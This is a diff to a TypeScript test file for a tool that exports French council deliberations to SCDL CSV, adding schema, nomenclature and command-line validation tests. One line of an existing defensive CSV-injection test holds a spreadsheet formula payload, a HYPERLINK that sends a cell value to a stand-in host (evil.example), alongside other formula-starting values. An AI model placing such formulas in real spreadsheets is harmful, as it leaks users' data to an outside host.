@@ -11,7 +11,8 @@ import mammoth from 'mammoth';
 import { analyze } from '../core/analyze';
 import { buildFileLayout, buildLayout, type Block, type Layout } from '../core/export/layout';
 import { renderHtml, renderBody } from '../core/export/html';
-import { renderDocument, SCDL_FIELDS, SCDL_REQUIRED, scdlRows, scdlRowsOfFile, toCsv, writeAtomic, freeName } from '../core/export/index';
+import { renderDocument, SCDL_FIELDS, SCDL_REQUIRED, scdlProblems, scdlRows, scdlRowsOfFile, toCsv, writeAtomic, freeName } from '../core/export/index';
+import { isSubMatter, subMatterName } from '../core/text/actes';
 import type { Finding } from '../core/types';
 import { repoPath } from './helpers/paths';
 
@@ -342,6 +343,39 @@ describe('export: SCDL Délibérations CSV', () => {
     assert.equal(parseCsv(toCsv(given.rows))[1][SCDL_FIELDS.indexOf('DELIB_OBJET')], r.DELIB_OBJET, 'quoted and read back');
   });
 
+  it('takes the @ctes sub-matter the act states, names it as the schema asks, and fills the address of each act', () => {
+    const stated = ACT.replace('Délibération n°2025-031', 'Délibération n°2025-031\n\nNomenclature : 7.5.1 Subventions de fonctionnement');
+    const { rows, warnings } = scdlRows(analyze(stated).model, 'acte.delib', { siret: '21250537400018', matiereCode: '8.1', matiereNom: 'enseignement', prefId: 'PREF025', url: 'https://www.saint-vit.fr/actes/{ANNEE}/{DELIB_ID}.pdf' });
+    assert.deepEqual(warnings, []);
+    const r = rows[0];
+    assert.equal(r.DELIB_MATIERE_CODE, '7.5', 'the act’s own, at level 2, before the one given for the batch');
+    assert.equal(r.DELIB_MATIERE_NOM, 'finances locales/subventions', 'not the name given with another code');
+    assert.equal(r.PREF_ID, 'PREF025');
+    assert.equal(r.DELIB_URL, 'https://www.saint-vit.fr/actes/2025/2025-031.pdf');
+    assert.deepEqual(scdlProblems(rows), []);
+    assert.equal(subMatterName('7.1'), 'finances locales/décisions budgétaires');
+    assert.equal(subMatterName('8.5'), 'domaines de compétences par thèmes/politique de la ville habitat logement');
+    assert.deepEqual(['7.5', '7.10', '9.4', '7.11', '9.5', '7', '7.5.1', '10.1'].map(isSubMatter), [true, true, true, false, false, false, false, false]);
+    // Without a statement in the act, the code given names itself from the nomenclature when no name is given.
+    assert.equal(scdlRows(analyze(ACT).model, 'a', { matiereCode: '3.1' }).rows[0].DELIB_MATIERE_NOM, 'domaine et patrimoine/acquisitions');
+  });
+
+  it('names where each missing required field can come from', () => {
+    const { warnings } = scdlRows(analyze(ACT).model, 'acte.delib');
+    assert.match(warnings[0], /COLL_SIRET \(--siret, ou « siret » du tableau des membres\)/);
+    assert.match(warnings[0], /DELIB_MATIERE_CODE \(--matiere, .*« Nomenclature : 7\.5 » dans l’acte\)/);
+  });
+
+  it('checks every value against the SCDL schema before the file is written', () => {
+    const { rows } = scdlRows(analyze(ACT).model, 'acte.delib', { siret: '21250537400017', matiereCode: '7.5', prefId: 'PREF25', url: 'ftp://x/{DELIB_ID}' });
+    const problems = scdlProblems(rows);
+    assert.equal(problems.length, 3, problems.join('\n'));
+    assert.match(problems[0], /^ligne 1 \(2025-031\) : COLL_SIRET « 21250537400017 » : attendu 14 chiffres, clé de contrôle juste$/);
+    assert.match(problems.join('\n'), /PREF_ID « PREF25 »/);
+    assert.match(problems.join('\n'), /DELIB_URL « ftp:\/\/x\/2025-031 »/);
+    assert.match(scdlProblems(rows, 'en')[0], /^row 1 \(2025-031\): COLL_SIRET/);
+  });
+
   it('neutralises a cell a spreadsheet would run as a formula (CSV injection), in the act and in the options', () => {
     const act = ACT.replace("Objet : Subvention à l'école de musique & convention <annuelle>", 'Objet : =HYPERLINK("http://evil.example/?x="&A1;"cliquer")');
     const { rows } = scdlRows(analyze(act).model, 'acte.delib', { collectivity: '+SUM(1,2)', matiereCode: '-7.5', matiereNom: '@cmd', siret: '21250537400018' });
@@ -526,6 +560,9 @@ describe('export: files and the command line', () => {
       [['--siret', '123'], /^delib: --siret 123 : 14 chiffres attendus$/],
       [['--siret', '21250537400017'], /^delib: --siret 21250537400017 : la clé de contrôle est fausse/],
       [['--matiere', '99'], /^delib: --matiere 99 : un code de la nomenclature @ctes est attendu/],
+      [['--matiere', '7.11'], /^delib: --matiere 7.11 : un code de la nomenclature @ctes est attendu/],
+      [['--prefecture', 'DOUBS'], /^delib: --prefecture DOUBS : PREFNNN \(PREF025\), SPREFNNNM ou SGARNNN attendu$/],
+      [['--url', 'saint-vit.fr/{DELIB_ID}'], /^delib: --url saint-vit.fr\/\{DELIB_ID\} : une adresse http\(s\) attendue/],
     ] as const) {
       const run = await delib(['export', src, '--to', 'csv', '-o', out, ...args]);
       assert.equal(run.status, 2);
@@ -538,11 +575,12 @@ describe('export: files and the command line', () => {
       const [civilite, prenom, nom] = p.split(' ');
       return `  - { civilite: ${civilite}, prenom: ${prenom}, nom: ${nom} }`;
     });
-    writeFileSync(roster, ['assemblee: Conseil municipal de Saint-Vit', 'type: conseil municipal', 'commune: Saint-Vit', 'siret: "212 505 374 00018"', 'membres:', ...members, ''].join('\n'));
+    writeFileSync(roster, ['assemblee: Conseil municipal de Saint-Vit', 'type: conseil municipal', 'commune: Saint-Vit', 'siret: "212 505 374 00018"', 'prefecture: PREF025', 'url_actes: "https://www.saint-vit.fr/actes/{DELIB_ID}.pdf"', 'membres:', ...members, ''].join('\n'));
     const run = await delib(['export', src, '--to', 'csv', '-o', out, '--roster', roster, '--force']);
     assert.equal(run.status, 0, run.stderr);
     const [header, row] = readFileSync(join(out, 'deliberations.csv'), 'utf8').trim().split('\r\n');
-    assert.equal(row.split(',')[header.split(',').indexOf('COLL_SIRET')], '21250537400018');
+    const cell = (f: string) => row.split(',')[header.split(',').indexOf(f)];
+    assert.deepEqual([cell('COLL_SIRET'), cell('PREF_ID'), cell('DELIB_URL')], ['21250537400018', 'PREF025', 'https://www.saint-vit.fr/actes/2025-031.pdf']);
     assert.doesNotMatch(run.stderr, /COLL_SIRET/, 'not named as missing any more');
   });
 
